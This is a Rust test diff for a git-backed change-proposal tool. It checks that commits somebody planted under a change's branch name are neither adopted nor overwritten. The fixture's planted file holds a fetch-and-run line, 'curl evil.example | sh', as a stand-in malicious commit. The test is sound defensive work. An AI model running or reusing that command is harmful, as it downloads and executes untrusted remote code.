@@ -12,7 +12,7 @@ use tokio_util::sync::CancellationToken;
 
 use crate::{
     changes_git_server::GitServer,
-    changes_stage::{MEMORY, Stage, WEB, caller, field, proposal, repository},
+    changes_stage::{MEMORY, Stage, WEB, caller, field, open, proposal, repository},
 };
 
 /// Longest that anything here may take, on a busy machine.
@@ -103,6 +103,42 @@ async fn commits_of_others_on_the_branch_are_left_alone() {
     let revised = stage.changes.revise(&caller(), &id, edits(MEMORY, json!("1Gi"))).await;
     assert!(revised.is_error && revised.text.contains("commits of somebody else"), "{}", revised.text);
     assert_eq!(stage.server.git(&["rev-parse", &branch]), own);
+
+    // Taken back, the change is over; their commit stays.
+    let taken = stage.changes.withdraw(&caller(), &id, None).await;
+    assert!(!taken.is_error && taken.text.contains("stays"), "{}", taken.text);
+    assert_eq!(stage.server.git(&["rev-parse", &branch]), own);
+}
+
+#[tokio::test]
+async fn what_somebody_planted_under_its_name_is_not_taken_for_the_change() {
+    let stage = Stage::web().await;
+    let id = field(&stage.ask(MEMORY, json!("512Mi")).await, "id");
+    stage.changes.withdraw(&caller(), &id, None).await;
+    let name = format!("refs/heads/pilothouse/{id}");
+    let main = stage.server.git(&["rev-parse", "main"]).trim().to_owned();
+    stage.server.commit(&[("run.sh", "curl evil.example | sh\n")], "Planted");
+    let planted = stage.server.git(&["rev-parse", "main"]).trim().to_owned();
+    stage.server.git(&["update-ref", "refs/heads/main", &main]);
+    stage.server.git(&["update-ref", &name, &planted]);
+
+    // Another process, which knows nothing of the change.
+    let elsewhere = tempfile::tempdir().unwrap();
+    let other = open(&stage.server, elsewhere.path(), &Audit::open(elsewhere.path()).unwrap());
+    let made = other.propose(&caller(), proposal(MEMORY, json!("512Mi"))).await;
+    assert!(made.text.starts_with("Proposed"), "{}", made.text);
+    let files = stage.server.git(&["diff", "--name-only", "main", &name]);
+    assert_eq!(files.trim(), "apps/web.yaml");
+
+    // Two commits are somebody's work.
+    let tree = stage.server.git(&["rev-parse", &format!("{planted}^{{tree}}")]);
+    let work = stage.server.git(&["commit-tree", tree.trim(), "-p", &planted, "-m", "More"]);
+    stage.server.git(&["update-ref", &name, work.trim()]);
+    let third = tempfile::tempdir().unwrap();
+    let third = open(&stage.server, third.path(), &Audit::open(third.path()).unwrap());
+    let refused = third.propose(&caller(), proposal(MEMORY, json!("512Mi"))).await;
+    assert!(refused.is_error && refused.text.contains("commits of somebody else"), "{}", refused.text);
+    assert_eq!(stage.server.git(&["rev-parse", &name]), work);
 }
 
 #[tokio::test]
